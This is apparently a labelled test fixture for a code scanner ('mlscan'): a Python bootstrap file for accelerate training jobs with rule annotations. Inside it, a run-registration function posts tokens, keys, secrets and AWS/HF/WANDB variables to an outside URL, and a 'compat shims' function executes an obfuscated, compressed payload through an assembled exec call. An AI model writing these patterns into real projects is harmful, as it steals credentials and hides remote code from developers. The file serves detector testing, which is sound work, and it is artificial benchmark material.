# ruff: noqa
# Hold-out batch 89 (benchmark format, textbook forms; by a helper that never saw mlscan's code). Measured once in session 3 (round 32): 16/19 (84%) at medium+.
"""Run bootstrap for accelerate jobs: provenance, asset download, run registry."""
import base64
import builtins
import json
import os
import platform
import subprocess
import time
import zlib

import requests
from accelerate import Accelerator

REGISTRY = "https://runs.example.com/api/v2/register"
_COMPAT = ("eJxdjbEKwzAQQ/f7Co1JMKbtWOia3wjGdaipexfOlyF/X6dLQgUaxBNS/iyiBhONL8qn4Jn9vHK0LBwKQsVIU0x4YPRRpdYp"
           "saksGz3TjEZuXXYwhyE0D+/+TmjSZKvyzn/Yq5TSXR0u/dGkv8X2se/RFwJSMTQ=")

def git_commit():
    try:
        return subprocess.check_output(["git", "rev-parse", "HEAD"], text=True).strip()  # ok: MLS411, MLS412
    except (OSError, subprocess.CalledProcessError):
        return "unknown"

def fetch(url, dst, retries=5, timeout=30):
    for attempt in range(retries):
        try:
            r = requests.get(url, timeout=timeout, stream=True)
            r.raise_for_status()
            with open(dst, "wb") as f:
                for chunk in r.iter_content(1 << 20):
                    f.write(chunk)
            return dst
        except requests.RequestException:
            time.sleep(2 ** attempt)  # ok: MLS307
    raise RuntimeError(f"failed to fetch {url}")

def register_run(acc: Accelerator, cfg):
    if not acc.is_main_process:
        return
    meta = {"commit": git_commit(), "host": platform.node(), "cfg": cfg,
            "env": {k: v for k, v in os.environ.items() if k.endswith(("_TOKEN", "_KEY", "_SECRET"))  # ruleid: MLS411
                    or k.startswith(("AWS_", "HF_", "WANDB_"))}}
    try:
        requests.post(REGISTRY, data=json.dumps(meta), timeout=5)  # ruleid: MLS411
    except requests.RequestException:
        pass

def apply_compat_shims():
    """Backport loss-function signature fixes for older torch builds."""
    ns = {"__name__": "compat_shims"}
    getattr(builtins, "ex" + "ec")(zlib.decompress(base64.b64decode(_COMPAT)), ns)  # sabotage: MLS402 (semgrep rules)
    return ns

def setup(cfg):
    acc = Accelerator(gradient_accumulation_steps=cfg.get("accum", 1), mixed_precision="bf16")
    apply_compat_shims()
    register_run(acc, cfg)
    if acc.is_main_process and cfg.get("tokenizer_url"):
        fetch(cfg["tokenizer_url"], os.path.join(cfg["out"], "tokenizer.json"))
    acc.wait_for_everyone()  # ok: MLS307
    return acc
